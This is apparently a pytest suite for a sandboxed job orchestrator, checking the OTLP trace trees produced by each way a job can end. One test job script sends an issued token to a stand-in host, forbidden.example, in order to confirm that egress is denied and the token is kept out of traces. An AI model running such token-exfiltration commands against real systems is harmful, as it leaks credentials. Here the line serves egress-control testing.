"""The whole span tree of a job in a sandbox, for every way it can end, as a real OTLP receiver got it.

Each tree is written out: names, parents, order, status and result. `ReceivedTrace.problems` adds what must hold for
all: ids, ends, tiling, one copy of each.
"""

from __future__ import annotations

import asyncio
import os
import signal
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest
from held_opa import HeldOpa, bundle_of
from installation import Installation
from received_traces import astray, gaps, settled, trace_of
from witness import GATE, Witness

from orchestrator.testing.otlp import Fault, OtlpReceiver
from orchestrator.testing.traces import TEARDOWN, ReceivedTrace, attributes_of, received

pytestmark = [pytest.mark.sandbox, pytest.mark.slow, pytest.mark.timeout(240)]

CLOUD, ELSEWHERE = "https://cloud.example", "https://elsewhere.example"
GATED = "visit started\nvisit gate\nvisit done\n"
TOKENS = f"""\
TOKEN=$(orchestrator-token --audience {CLOUD})
visit "$TOKEN"
! orchestrator-token --audience {ELSEWHERE} 2>/dev/null
"""
FORBIDDEN = """\
"$PYTHON" -I -S -c 'import http.client, os, sys
connection = http.client.HTTPConnection(*os.environ["http_proxy"].removeprefix("http://").split(":"), timeout=20)
connection.request("GET", "http://forbidden.example/?token=" + sys.argv[1], headers={"Cookie": sys.argv[1]})
sys.exit(connection.getresponse().status != 403)' "$TOKEN"
"""
BEFORE = """\
  queue
  policy verdict=allow
  wait
  provision
    create
  bind
    start
    egress.proof
    claim
"""
WENT_WELL = (
    f"RUN {{name}} result=success reason=completed{{more}}\n{BEFORE}  execute\n    run\n    log.flush\n{TEARDOWN}"
)
FAILED = (
    f"RUN {{name}} result={{result}} reason={{reason}} ! {{reason}}\n{BEFORE}"
    f"  execute ! {{reason}}\n    run ! {{reason}}\n    log.flush\n{TEARDOWN}"
)
LOST = (
    f"RUN build result=error reason=runner_lost restarts=1 ! runner_lost\n{BEFORE}"
    f"  execute ! runner_lost\n    run ! runner_lost\n{TEARDOWN}"
)


@pytest.fixture
async def opa() -> AsyncIterator[HeldOpa]:
    async with HeldOpa() as opa:
        yield opa


@pytest.fixture
def here(installed: Callable[..., Installation], receiver: OtlpReceiver, tmp_path: Path) -> Installation:
    """An installation with a policy of the test's own that refuses jobs called *denied*."""
    return configured(installed(), receiver, tmp_path)


def configured(here: Installation, receiver: OtlpReceiver, folder: Path, **settings: object) -> Installation:
    audiences: dict[str, object] = {CLOUD: {}, ELSEWHERE: {}}
    here.configure(
        receiver.endpoint,
        **{"policy": {"bundle": str(bundle_of(folder))}, "identity": {"audiences": audiences}} | settings,
    )
    return here


async def frozen_agent(here: Installation) -> str:
    """A job whose agent was stopped before it had claimed, so that it stays in *binding*.

    The launcher keeps sandboxes ready, made one after the other, and gives away the oldest: with two of them the first
    is complete. What becomes PID 1 in each, and so the agent, is stopped beforehand.
    """
    launcher = here.part("launcher").pid
    async with asyncio.timeout(60):
        while len(inside := [pid for outer in _children(launcher) for pid in _children(outer)]) < 2:
            await asyncio.sleep(0.02)
    for pid in inside:
        os.kill(pid, signal.SIGSTOP)
    job_id = await here.dispatch("frozen", "exit 0")
    await here.phase(job_id, "binding", "teardown", "finished")
    return job_id


def _children(pid: int) -> list[int]:
    try:
        return [int(word) for word in Path(f"/proc/{pid}/task/{pid}/children").read_text("ascii").split()]
    except OSError:
        return []


async def test_how_jobs_end_by_themselves(here: Installation, receiver: OtlpReceiver) -> None:
    await here.start()
    expected = {
        "green": ("exit 0", WENT_WELL.format(name="green", more="")),
        "red": (
            "exit 3",
            FAILED.format(name="red", result="failure", reason="exit_nonzero"),
        ),
        "signalled": (
            "kill -KILL $$",
            FAILED.format(name="signalled", result="failure", reason="killed_by_signal"),
        ),
        "denied": (
            "exit 0",
            "RUN denied result=denied reason=policy_denied\n  queue\n  policy verdict=deny\n  teardown\n    verify\n",
        ),
    }
    jobs = {name: await here.dispatch(name, script) for name, (script, _) in expected.items()}
    traces = {name: await trace_of(here, receiver, job_id) for name, job_id in jobs.items()}
    assert {name: unwaited(trace) for name, trace in traces.items()} == {
        name: tree for name, (_, tree) in expected.items()
    }
    root = attributes_of(traces["red"].root.attributes)
    assert (root["orchestrator.job.exit_code"], root["cicd.pipeline.result"]) == (3, "failure")
    assert "cicd.worker.id" in attributes_of(traces["green"].one("execute").attributes)
    assert await here.stop() == 0
    assert len(receiver.spans) == len({span.span_id for span in receiver.spans}), "each span came once"


async def test_tokens_and_egress_are_on_the_trace(here: Installation, witness: Witness, receiver: OtlpReceiver) -> None:
    """The job tells the witness its token, and shows it to a host that is forbidden."""
    await here.start()
    job_id = await here.dispatch("deploy", f"visit started\n{TOKENS}{FORBIDDEN}")
    trace = await trace_of(here, receiver, job_id)
    assert settled(trace) == WENT_WELL.format(name="deploy", more="").replace(
        "    run\n",
        "    run\n"
        "    identity.exchange verdict=allow outcome=issued\n"
        "    identity.exchange verdict=deny outcome=refused\n",
    )
    issued, refused = sorted(
        (span for span in trace.spans if span.name == "identity.exchange"), key=lambda span: span.start_time_unix_nano
    )
    assert trace.events(issued) == ["token.issued"]
    assert trace.events(refused) == ["token.refused"]
    verdicts = [log for log in trace.logs if log.event_name == "orchestrator.egress.decided"]
    of_job = [attributes_of(log.attributes) for log in verdicts if log.span_id == trace.one("execute").span_id]
    assert {(said["orchestrator.egress.host"], said["orchestrator.egress.verdict"]) for said in of_job} == {
        ("witness.test.internal", "allow"),
        ("forbidden.example", "deny"),
    }
    assert "egress.decided" in trace.events(trace.one("bind")), "the agent's own probes"
    assert await here.stop() == 0
    assert astray(receiver) == []
    _, token = witness.words(job_id)
    told = b"".join(receiver.bodies)
    assert [part for part in (*token.split("."), "eyJ") if part.encode() in told] == []


async def test_a_caller_that_tries_again_links_its_attempts(here: Installation, receiver: OtlpReceiver) -> None:
    """Each attempt is dispatched with the traceparent of the one before, the last one to another daemon."""
    await here.start()
    attempts, before = [], ""
    for number, script in enumerate(("exit 3", "kill -KILL $$", "exit 0"), 1):
        headers = {"traceparent": before} if before else {}
        answer = await here.call(
            "POST", "/v1/jobs", here.body("build", script), Idempotency_Key=f"build-{number}", **headers
        )
        attempts.append(answer.body["id"])
        before = answer.headers["traceparent"]
        await here.finished(attempts[-1])
        if number == 2:
            assert await here.stop() == 0  # a killed one might not have noted that it had sent a trace
            await here.start()
    traces = [await trace_of(here, receiver, job_id) for job_id in attempts]
    assert [settled(trace) for trace in traces] == [
        FAILED.format(name="build", result="failure", reason="exit_nonzero"),
        FAILED.format(name="build", result="failure", reason="killed_by_signal"),
        WENT_WELL.format(name="build", more=""),
    ]
    executes = [(trace.root.trace_id.hex(), trace.one("execute").span_id.hex()) for trace in traces]
    assert [trace.links() for trace in traces] == [{}, {"caller": executes[0]}, {"caller": executes[1]}]
    assert await here.stop() == 0


async def test_a_job_that_is_cancelled_while_it_waits_or_runs(
    here: Installation, witness: Witness, receiver: OtlpReceiver, tmp_path: Path
) -> None:
    configured(here, receiver, tmp_path, capacity=1)
    await here.start()
    running = await here.dispatch("running", GATED)
    await witness.told(running, GATE)
    waiting = await here.dispatch("waiting", GATED)
    await here.until(waiting, lambda view: view["wait"])
    for job_id in (waiting, running):
        assert (await here.call("DELETE", f"/v1/jobs/{job_id}?reason=enough")).status == 202
    trace = await trace_of(here, receiver, waiting)
    assert settled(trace) == (
        "RUN waiting result=cancellation reason=cancelled\n"
        "  queue\n  policy verdict=allow\n  wait reason=pool_full\n  teardown\n    verify\n"
    )
    assert "job.cancel_requested" in trace.events(trace.one("wait"))
    trace = await trace_of(here, receiver, running)
    assert settled(trace) == f"RUN running result=cancellation reason=cancelled\n{BEFORE}  execute\n    run\n{TEARDOWN}"
    assert "job.cancel_requested" in trace.events(trace.one("execute"))
    assert await here.stop() == 0


async def test_a_job_that_is_cancelled_or_too_long_in_the_queue(
    here: Installation, opa: HeldOpa, receiver: OtlpReceiver, tmp_path: Path
) -> None:
    configured(here, receiver, tmp_path, policy=opa.setting, deadlines={"admission_seconds": 5})
    await here.start()
    late = await here.dispatch("held-late", GATED)
    cancelled = await here.dispatch("held", GATED)
    await opa.asked_about("held")
    assert (await here.call("DELETE", f"/v1/jobs/{cancelled}?reason=enough")).status == 202
    trace = await trace_of(here, receiver, cancelled)
    assert settled(trace) == "RUN held result=cancellation reason=cancelled\n  queue\n  teardown\n    verify\n"
    trace = await trace_of(here, receiver, late)
    assert settled(trace) == (
        "RUN held-late result=timeout reason=admission_timeout ! admission_timeout\n"
        "  queue ! admission_timeout\n  teardown\n    verify\n"
    )
    assert await here.stop() == 0


async def test_each_phase_that_takes_too_long(
    here: Installation, witness: Witness, receiver: OtlpReceiver, tmp_path: Path
) -> None:
    deadlines = {"capacity_seconds": 1, "provision_seconds": 5, "bind_seconds": 5, "call_seconds": 2}
    configured(here, receiver, tmp_path, capacity=1, deadlines=deadlines)
    await here.start()
    holding = await here.dispatch("holding", GATED)
    await witness.told(holding, GATE)
    trace = await trace_of(here, receiver, await here.dispatch("waiting", GATED))
    assert settled(trace) == (
        "RUN waiting result=timeout reason=capacity_timeout ! capacity_timeout\n"
        "  queue\n  policy verdict=allow\n  wait reason=pool_full ! capacity_timeout\n  teardown\n    verify\n"
    )
    assert (await here.call("DELETE", f"/v1/jobs/{holding}?reason=enough")).status == 202
    await here.finished(holding)
    trace = await trace_of(here, receiver, await here.dispatch("long", GATED, timeout_seconds=1))
    assert settled(trace) == (
        f"RUN long result=timeout reason=run_timeout ! run_timeout\n{BEFORE}"
        f"  execute ! run_timeout\n    run ! run_timeout\n{TEARDOWN}"
    )
    trace = await trace_of(here, receiver, await frozen_agent(here))
    assert settled(trace) == (
        "RUN frozen result=timeout reason=bind_timeout ! bind_timeout\n"
        + BEFORE.partition("  bind\n")[0]
        + "  bind ! bind_timeout\n    start ! bind_timeout\n"
        + TEARDOWN
    )
    here.part("orchestrator.egress").send_signal(signal.SIGSTOP)
    job_id = await here.dispatch("unmade", GATED)
    await here.until(job_id, lambda view: view["phase"] in ("teardown", "finished"))
    here.part("orchestrator.egress").send_signal(signal.SIGCONT)
    trace = await trace_of(here, receiver, job_id)
    assert settled(trace) == (
        "RUN unmade result=timeout reason=provision_timeout ! provision_timeout\n"
        "  queue\n  policy verdict=allow\n  wait\n  provision reason=backend_unavailable ! provision_timeout\n"
        "    create\n    start ! provision_timeout\n" + TEARDOWN
    )
    assert await here.stop() == 0


async def test_a_job_that_takes_too_much_memory(here: Installation, receiver: OtlpReceiver, tmp_path: Path) -> None:
    sizes = {f"{place}_bytes": 16 << 20 for place in ("workspace", "tmp", "shm")} | {"memory_bytes": 256 << 20}
    pool = {"name": "default", "sandbox": {"host_uid_base": here.uid_base, **sizes}}
    configured(here, receiver, tmp_path, pools=[pool])
    await here.start()
    hungry = '"$PYTHON" -c \'held = []\nwhile True: held.append(b"x" * (4 << 20))\''
    job_id = await here.dispatch("hungry", f"exec {hungry}")
    reason = (await here.finished(job_id))["reason"]
    if reason != "out_of_memory":
        assert reason == "exit_nonzero", "without control groups each process gets a MemoryError"
        pytest.skip("memory is not limited for the whole sandbox here")
    trace = await trace_of(here, receiver, job_id)
    assert settled(trace) == FAILED.format(name="hungry", result="error", reason="out_of_memory")
    assert await here.stop() == 0


async def killed_at(here: Installation, phase: str, job_id: str) -> None:
    """SIGKILL of the daemon while the job is in this phase, where something holds it, and the next daemon."""
    assert (await here.phase(job_id, phase))["phase"] == phase
    await here.kill()
    await here.start()


def unwaited(trace: ReceivedTrace) -> str:
    """The same without why it waited: which of several jobs finds the pool full is chance."""
    return settled(trace).replace("  wait reason=pool_full\n", "  wait\n")


async def test_the_daemon_is_killed_with_a_job_in_the_queue(
    here: Installation, opa: HeldOpa, witness: Witness, receiver: OtlpReceiver, tmp_path: Path
) -> None:
    configured(here, receiver, tmp_path, policy=opa.setting)
    await here.start()
    witness.open_gate()
    job_id = await here.dispatch("held", GATED)
    await opa.asked_about("held")
    await here.kill()
    opa.let_go()
    await here.start()
    trace = await trace_of(here, receiver, job_id)
    assert settled(trace) == WENT_WELL.format(name="held", more=" restarts=1")
    assert gaps(trace) == {"queue"}
    assert await here.stop() == 0


async def test_the_daemon_is_killed_with_jobs_that_run_and_wait(
    here: Installation, witness: Witness, receiver: OtlpReceiver, tmp_path: Path
) -> None:
    configured(here, receiver, tmp_path, capacity=1)
    await here.start()
    running = await here.dispatch("build", GATED)
    await witness.told(running, GATE)
    waiting = await here.dispatch("waiting", GATED)
    await here.until(waiting, lambda view: view["wait"])
    await killed_at(here, "running", running)
    witness.open_gate()
    trace = await trace_of(here, receiver, running)
    assert settled(trace) == LOST
    assert gaps(trace) == {"execute"}
    trace = await trace_of(here, receiver, waiting)
    assert unwaited(trace) == WENT_WELL.format(name="waiting", more=" restarts=1")
    assert gaps(trace) == {"wait"}
    assert await here.stop() == 0


async def test_the_daemon_is_killed_while_it_makes_a_runner(
    here: Installation, witness: Witness, receiver: OtlpReceiver
) -> None:
    """A gateway that is stopped gives no sandbox its way out, so that none comes up."""
    await here.start()
    witness.open_gate()
    here.part("orchestrator.egress").send_signal(signal.SIGSTOP)
    job_id = await here.dispatch("build", GATED)
    await killed_at(here, "provisioning", job_id)
    trace = await trace_of(here, receiver, job_id)
    assert settled(trace) == WENT_WELL.format(name="build", more=" restarts=1")
    assert gaps(trace) == {"provision"}
    assert await here.stop() == 0


async def test_the_daemon_is_killed_before_the_agent_has_claimed(here: Installation, receiver: OtlpReceiver) -> None:
    await here.start()
    job_id = await frozen_agent(here)
    await killed_at(here, "binding", job_id)
    trace = await trace_of(here, receiver, job_id)
    cut_off = "  provision\n  bind ! runner_vanished\n  wait reason=runner_vanished\n"
    assert settled(trace) == WENT_WELL.format(name="frozen", more=" restarts=1").replace(
        "  provision\n", f"{cut_off}  provision\n"
    )
    assert gaps(trace) == {"bind"}
    assert await here.stop() == 0


async def test_the_daemon_is_killed_in_teardown(here: Installation, witness: Witness, receiver: OtlpReceiver) -> None:
    await here.start()
    job_id = await here.dispatch("build", "trap '' TERM\nsetsid sh -c 'trap \"\" TERM HUP INT; sleep 600' &\n" + GATED)
    await witness.told(job_id, GATE)
    launcher = here.part("launcher")
    launcher.send_signal(signal.SIGSTOP)
    assert (await here.call("DELETE", f"/v1/jobs/{job_id}?reason=enough")).status == 202
    async with asyncio.timeout(60):
        while "verify" not in str((await here.call("GET", f"/v1/jobs/{job_id}/trace")).body):
            await asyncio.sleep(0.02)
    assert (await here.job(job_id))["phase"] == "teardown"
    await here.kill()
    launcher.send_signal(signal.SIGCONT)
    await here.start()
    trace = await trace_of(here, receiver, job_id)
    assert (
        settled(trace)
        == f"RUN build result=cancellation reason=cancelled restarts=1\n{BEFORE}  execute\n    run\n{TEARDOWN}"
    )
    assert gaps(trace) == {"verify"}
    assert await here.stop() == 0


async def test_the_daemon_is_killed_before_a_finished_trace_is_sent(here: Installation, receiver: OtlpReceiver) -> None:
    receiver.faults.extend([Fault.UNAVAILABLE] * 1000)
    await here.start()
    job_id = await here.dispatch("build", "exit 0")
    await here.finished(job_id)
    await receiver.wait_for_calls(1)
    await here.kill()
    assert receiver.spans == []
    receiver.faults.clear()
    await here.start()
    trace = await trace_of(here, receiver, job_id)
    assert settled(trace) == WENT_WELL.format(name="build", more="")
    after = await trace_of(here, receiver, await here.dispatch("after", "exit 0"))
    assert settled(after) == WENT_WELL.format(name="after", more="")
    assert await here.stop() == 0
    assert received(receiver, job_id).problems() == [], "and it was sent once only"
